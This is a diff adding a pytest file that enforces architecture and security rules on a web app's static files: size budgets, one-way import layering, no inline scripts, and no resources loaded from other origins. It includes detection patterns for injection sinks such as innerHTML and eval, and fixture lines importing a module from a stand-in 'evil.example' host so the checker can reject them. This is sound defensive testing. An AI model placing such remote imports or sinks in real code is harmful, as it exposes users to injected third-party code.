@@ -1,0 +1,239 @@
+"""The web app's own house rules: how much it may be, who may call whom, and that nothing comes from elsewhere.
+
+Read from the files of Public/ as they are: no browser, no server.
+"""
+
+import gzip
+import json
+import posixpath
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from client import ROOT
+
+PUBLIC = ROOT / "Public"
+# Of all scripts together, each compressed by itself as a proxy does: a phone on a slow network waits for no more.
+SCRIPT_BYTES = 60 * 1024
+MODULES = 36
+# Which folders of js/ each may import from. `app.js` puts them together.
+IMPORTS = {
+    "model": {"model"},
+    "store": {"store", "model"},
+    "sync": {"sync", "store", "model"},
+    "archive": {"archive", "store", "model"},
+    "ui": {"ui", "sync", "store", "archive", "model"},
+}
+# Ways for a text to become markup or a program.
+MAKES_MARKUP = re.compile(
+    r"\b(?:inner|outer)HTML\b|\binsertAdjacentHTML\b|\bdocument\.write(?:ln)?\b|\beval\(|\bnew Function\b|\bsrcdoc\b"
+    r"|\b(?:setHTMLUnsafe|createContextualFragment|parseFromString)\(|\bjavascript:"
+)
+NETWORK = re.compile(r"(?<![#.\w])fetch\(|\bXMLHttpRequest\b|\bEventSource\b|\bWebSocket\b|\bsendBeacon\b")
+DATABASE = re.compile(r"\bindexedDB\b")
+PAGE = re.compile(r"(?<![.\w])(?:document|window)\.")
+IMPORT = re.compile(r"""^\s*(?:import|export)\b[^"'()]*?\bfrom\s*["']([^"']+)["']|^\s*import\s*["']([^"']+)["']""", re.M)
+DYNAMIC = re.compile(r"""\bimport\(\s*([^)]*)\)""")
+
+
+def scripts(folder: str = "") -> list[Path]:
+    return sorted((PUBLIC / folder).rglob("*.js"))
+
+
+def name(path: Path) -> str:
+    """As an address: `/js/app.js`."""
+    return "/" + path.relative_to(PUBLIC).as_posix()
+
+
+def code(path: Path) -> str:
+    """Without comments, lines kept. (What begins like one inside a string or a pattern is taken for one: no rule here looks
+    for what could stand after it.)"""
+    text = re.sub(r"/\*.*?\*/", lambda found: "\n" * found[0].count("\n"), path.read_text(), flags=re.S)
+    return re.sub(r"(?m)^\s*//.*$|(?<=[\s;{}])//(?=\s).*$", "", text)
+
+
+def imports(path: Path) -> list[str]:
+    """The addresses of the modules that one imports."""
+    found = [one or other for one, other in IMPORT.findall(code(path))]
+    for target in DYNAMIC.findall(code(path)):
+        assert re.fullmatch(r"""["'][^"']+["']\s*""", target), f"{name(path)} imports what nobody can foresee: {target}"
+        found.append(target.strip().strip("\"'"))
+    for target in found:
+        assert target.startswith(("./", "../")), f"{name(path)} imports {target}: a relative path names a file of ours"
+    return [posixpath.normpath(posixpath.join(posixpath.dirname(name(path)), target)) for target in found]
+
+
+def lines_with(pattern: re.Pattern, paths: list[Path]) -> list[str]:
+    return [
+        f"{name(path)}:{number}: {line.strip()}"
+        for path in paths
+        for number, line in enumerate(code(path).split("\n"), 1)
+        if pattern.search(line)
+    ]
+
+
+class Tags(HTMLParser):
+    """Every tag of a page with its attributes, and the text inside scripts and styles."""
+
+    def __init__(self, path: Path):
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.inside: list[str] = []
+        self.feed(path.read_text())
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attributes)))
+
+    def handle_data(self, data: str) -> None:
+        if self.tags and self.tags[-1][0] in ("script", "style") and self.lasttag == self.tags[-1][0]:
+            self.inside.append(data.strip())
+
+
+PAGES = sorted(PUBLIC.rglob("*.html"))
+
+
+# How much it may be.
+
+
+def test_scripts_are_small():
+    """The budget is for all of them; each folder's share is told, for whoever has to save."""
+    shares: dict[str, int] = {}
+    for path in scripts():
+        part = path.relative_to(PUBLIC).parts
+        share = part[1] if len(part) > 2 else "the rest"
+        shares[share] = shares.get(share, 0) + len(gzip.compress(path.read_bytes(), 9))
+    assert sum(shares.values()) <= SCRIPT_BYTES, shares
+
+
+def test_modules_are_few():
+    """Each is a request at the first visit."""
+    assert len(scripts("js")) <= MODULES, [name(path) for path in scripts("js")]
+
+
+def test_every_module_is_preloaded_and_nothing_else():
+    """Then all come in one round trip after the page, whatever imports what."""
+    tags = Tags(PUBLIC / "index.html").tags
+    preloaded = [tag["href"] for kind, tag in tags if kind == "link" and tag.get("rel") == "modulepreload"]
+    modules = [name(path) for path in scripts("js")]
+    wanted = "\n".join(f'  <link rel="modulepreload" href="{module}">' for module in modules)
+    assert sorted(preloaded) == modules, f"index.html wants just these:\n{wanted}"
+
+
+def test_every_module_is_used():
+    """Whatever app.js does not reach is downloaded for nothing."""
+    found, waiting = set(), ["/js/app.js"]
+    while waiting:
+        module = waiting.pop()
+        if module not in found:
+            found.add(module)
+            assert (PUBLIC / module[1:]).is_file(), f"{module} is imported, and not there"
+            waiting += imports(PUBLIC / module[1:])
+    assert found == {name(path) for path in scripts("js")}
+
+
+# Who may call whom.
+
+
+@pytest.mark.parametrize("folder", IMPORTS)
+def test_imports_run_one_way(folder):
+    paths = scripts(f"js/{folder}")
+    assert paths, f"js/{folder} is empty"
+    wrong = [
+        f"{name(path)} imports {target}"
+        for path in paths
+        for target in imports(path)
+        if target.split("/")[2] not in IMPORTS[folder]
+    ]
+    assert wrong == []
+
+
+def test_no_other_folder():
+    """One that no rule knows would be bound by none."""
+    assert {path.parent.name for path in scripts("js") if path.parent != PUBLIC / "js"} == set(IMPORTS)
+    assert [name(path) for path in (PUBLIC / "js").glob("*.js")] == ["/js/app.js"]
+    assert [name(path) for path in PUBLIC.glob("*.js")] == ["/sw.js"]
+
+
+def test_views_know_neither_network_nor_database():
+    assert lines_with(NETWORK, scripts("js/ui")) == []
+    assert lines_with(DATABASE, scripts("js/ui")) == []
+
+
+@pytest.mark.parametrize("folder", ["model", "store", "sync", "archive"])
+def test_the_rest_knows_no_page(folder):
+    assert lines_with(PAGE, scripts(f"js/{folder}")) == []
+
+
+def test_the_model_knows_nothing_but_values():
+    assert lines_with(NETWORK, scripts("js/model")) + lines_with(DATABASE, scripts("js/model")) == []
+
+
+# Text is never markup, and nothing comes from elsewhere.
+
+
+def test_text_is_never_markup():
+    assert lines_with(MAKES_MARKUP, scripts()) == []
+
+
+@pytest.mark.parametrize("path", PAGES, ids=lambda path: path.name)
+def test_nothing_is_inline(path):
+    page = Tags(path)
+    assert not any(page.inside), "a script or style inside the page"
+    for tag, attributes in page.tags:
+        assert tag != "style" and "style" not in attributes, tag
+        assert not [attribute for attribute in attributes if attribute.startswith("on")], tag
+        assert tag != "base"
+
+
+@pytest.mark.parametrize("path", PAGES, ids=lambda path: path.name)
+def test_pages_load_only_what_is_ours(path):
+    for tag, attributes in Tags(path).tags:
+        for attribute in ("src", "href", "srcset", "data", "poster", "action", "manifest"):
+            target = attributes.get(attribute)
+            if target is None or tag == "a":  # where a person may go is another matter
+                continue
+            assert re.match(r"/(?!/)", target), f"{tag} {attribute}={target}"
+            assert (PUBLIC / target[1:].partition("?")[0]).is_file(), f"{tag} names {target}, which is not there"
+
+
+@pytest.mark.parametrize("path", sorted(PUBLIC.rglob("*.css")), ids=lambda path: path.name)
+def test_styles_load_only_what_is_ours(path):
+    text = re.sub(r"/\*.*?\*/", "", path.read_text(), flags=re.S)
+    assert "@import" not in text
+    for target in re.findall(r"url\(\s*[\"']?([^\"')]*)", text):
+        assert re.match(r"/(?!/)|\.{1,2}/|data:image/|#", target), target
+
+
+def test_the_manifest_names_only_what_is_there():
+    manifest = json.loads((PUBLIC / "manifest.webmanifest").read_text())
+    assert manifest["start_url"].startswith("/")
+    assert manifest["icons"]
+    for icon in manifest["icons"]:
+        assert icon["src"].startswith("/") and (PUBLIC / icon["src"][1:]).is_file(), icon["src"]
+
+
+# The rules themselves.
+
+
+def test_the_reader_of_code(tmp_path, monkeypatch):
+    """It sees what it has to see: a rule that sees nothing would hold for ever."""
+    monkeypatch.setattr(f"{__name__}.PUBLIC", tmp_path)
+    (tmp_path / "js/ui").mkdir(parents=True)
+    path = tmp_path / "js/ui/bad.js"
+    path.write_text(
+        "/** @typedef {import(\"../sync/engine.js\").Engine} Engine\n * innerHTML */\n"
+        "import {a,\n  b} from \"./a.js\"\nimport \"../model/b.js\"\nexport {c} from './c.js'\n"
+        "const d = await import(\"../store/d.js\") // eval(x)\n"
+        "element.innerHTML = \"http://x\"\nconst x = await fetch(\"/v1\")\nthis.#fetch(1)\nindexedDB.open()\n"
+        "window.x = document.title\n"
+    )
+    assert sorted(imports(path)) == ["/js/model/b.js", "/js/store/d.js", "/js/ui/a.js", "/js/ui/c.js"]
+    assert lines_with(MAKES_MARKUP, [path]) == ['/js/ui/bad.js:8: element.innerHTML = "http://x"']
+    assert [line.split(":")[1] for line in lines_with(NETWORK, [path])] == ["9"]
+    assert [line.split(":")[1] for line in lines_with(DATABASE, [path])] == ["11"]
+    assert [line.split(":")[1] for line in lines_with(PAGE, [path])] == ["12"]
+    for statement in ('import("https://evil.example/x.js")', "import(name)", 'import "https://evil.example/x.js"'):
+        path.write_text(statement)
+        with pytest.raises(AssertionError):
+            imports(path)
